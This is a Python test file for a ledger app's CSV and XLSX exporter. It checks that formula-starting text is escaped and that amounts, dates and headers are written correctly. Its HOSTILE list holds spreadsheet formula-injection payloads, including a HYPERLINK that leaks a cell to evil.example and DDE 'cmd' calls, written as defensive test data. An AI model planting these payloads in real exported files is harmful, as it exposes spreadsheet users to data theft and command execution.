"""The one writer of the CSV and XLSX files the ledger hands out (CONTRACT "Personal data
and hostile input"): no live formula ever, text that would start one is written with a
leading `'`, amounts and dates stay numbers and dates, exactly."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from adapters.sheets import Column, Sheet, csv_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AMOUNTS = [Decimal("999999999999.99"), Decimal("-50.00"), Decimal("0.10"), Decimal("100000.00")]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Excel on a Chinese Windows reads it right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writes_text_that_would_start_a_formula_with_a_leading_quote(text: str) -> None:
    rows = read_csv(csv_bytes(["payee"], [[text]]))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_text_that_would_start_a_formula_as_text_with_a_leading_quote(
    text: str,
) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", [[text]], header=["payee"]))))["s"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # XlsxWriter escapes a carriage return as Excel does (_x000D_); openpyxl leaves it so.
    assert cell.value.replace("_x000D_", "\r") == "'" + text


def test_xlsx_amounts_are_numeric_cells_holding_the_exact_amount() -> None:
    content = xlsx_bytes(Sheet("s", [[amount] for amount in AMOUNTS], header=["amount"]))
    sheet = load_workbook(io.BytesIO(content))["s"]
    for row, amount in enumerate(AMOUNTS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "n" and cell.number_format == "#,##0.00"
        assert Decimal(repr(cell.value)).quantize(Decimal("0.01")) == amount
    # The file itself holds the decimal digits, not a binary fraction's expansion.
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>999999999999.99</v>" in xml and "<v>-50.00</v>" in xml


def test_csv_amounts_are_plain_decimals_and_a_negative_amount_is_not_neutralised() -> None:
    rows = read_csv(csv_bytes(["amount"], [[amount] for amount in AMOUNTS]))
    assert [row[0] for row in rows[1:]] == ["999999999999.99", "-50.00", "0.10", "100000.00"]


def test_dates_are_date_cells_in_xlsx_and_iso_dates_in_csv() -> None:
    content = xlsx_bytes(Sheet("s", [[date(2018, 6, 1)]], header=["date"]))
    cell = load_workbook(io.BytesIO(content))["s"]["A2"]
    assert cell.is_date and cell.value == datetime(2018, 6, 1)
    assert cell.number_format == "yyyy-mm-dd"
    assert read_csv(csv_bytes(["date"], [[date(2018, 6, 1)]]))[1] == ["2018-06-01"]


def test_integers_are_numbers_none_is_empty_and_the_header_row_is_frozen() -> None:
    content = xlsx_bytes(Sheet("s", [[7, None, "x"]], header=["n", "gap", "text"]))
    sheet = load_workbook(io.BytesIO(content))["s"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (7, "n")
    assert sheet["B2"].value is None
    assert sheet.freeze_panes == "A2"
    assert read_csv(csv_bytes(["n", "gap"], [[7, None]]))[1] == ["7", ""]


def test_a_sheet_without_a_header_starts_with_its_first_row() -> None:
    content = xlsx_bytes(Sheet("a", [["x", 1]], header=["h", "n"]), Sheet("b", [["matched", 4]]))
    book = load_workbook(io.BytesIO(content))
    assert (book["b"]["A1"].value, book["b"]["B1"].value) == ("matched", 4)
    assert book["b"].freeze_panes is None


def test_no_cell_of_a_written_workbook_is_a_formula() -> None:
    rows = [
        [text, amount, date(2018, 1, 1), 3]
        for text, amount in zip(HOSTILE, AMOUNTS * 2, strict=False)
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", rows, header=HOSTILE[:4]))))
    cells = [cell for row in book["s"].iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)


def test_an_amount_beyond_excels_15_digits_is_written_as_its_exact_digits() -> None:
    # No ledger amount comes near (12 integer digits), but a sum over an uploaded file might.
    huge = Decimal("-12345678901234567.89")
    cell = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", [[huge]]))))["s"]["A1"]
    assert (cell.data_type, cell.value) == ("s", "-12345678901234567.89")
    assert read_csv(csv_bytes(["v"], [[huge]]))[1] == ["-12345678901234567.89"]


@pytest.mark.parametrize("value", [1.5, True, Decimal("NaN"), Decimal("-Infinity")])
def test_a_float_a_bool_or_a_non_finite_amount_is_refused(value: object) -> None:
    with pytest.raises((TypeError, ValueError)):
        xlsx_bytes(Sheet("s", [[value]]))  # type: ignore[list-item]
    with pytest.raises((TypeError, ValueError)):
        csv_bytes(["v"], [[value]])  # type: ignore[list-item]


def test_files_are_headed_in_chinese_by_default_and_in_english_on_request() -> None:
    columns = [Column("日期", "Date", 12), Column("金额", "Amount", 16)]
    title = Column("就业补助资金", "Employment fund")
    for lang, header, name in [
        ("zh", ["日期", "金额"], "就业补助资金"),
        ("en", ["Date", "Amount"], "Employment fund"),
    ]:
        sheet = Sheet.of(title, columns, [[date(2018, 6, 1), Decimal("1.00")]], lang)  # type: ignore[arg-type]
        book = load_workbook(io.BytesIO(xlsx_bytes(sheet)))
        assert book.sheetnames == [name]
        cells = book[name]
        assert [cell.value for cell in cells[1]] == header
        assert cells.column_dimensions["B"].width == pytest.approx(16, abs=1)
        assert read_csv(csv_bytes(header, sheet.rows))[0] == header


def test_instants_are_shown_in_beijing_time() -> None:
    instant = datetime(2018, 6, 30, 17, 30, tzinfo=UTC)  # as the ledger stores it
    book = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", [[instant]]))))
    assert book["s"]["A1"].value == datetime(2018, 7, 1, 1, 30)
    assert read_csv(csv_bytes(["at"], [[instant]]))[1] == ["2018-07-01 01:30:00+08:00"]


def test_a_sheet_name_excel_would_refuse_is_made_acceptable() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(Sheet("a/b:c*d?[e]" + "x" * 40, [["v"]]))))
    assert book.sheetnames == ["a_b_c_d__e_" + "x" * 20]


def test_a_long_csv_comes_in_chunks_and_reads_back_whole() -> None:
    from adapters.sheets import CHUNK_ROWS, csv_chunks

    chunks = list(csv_chunks(["n"], ([n] for n in range(CHUNK_ROWS * 3 + 5))))
    assert len(chunks) == 4
    assert len(read_csv(b"".join(chunks))) == CHUNK_ROWS * 3 + 6
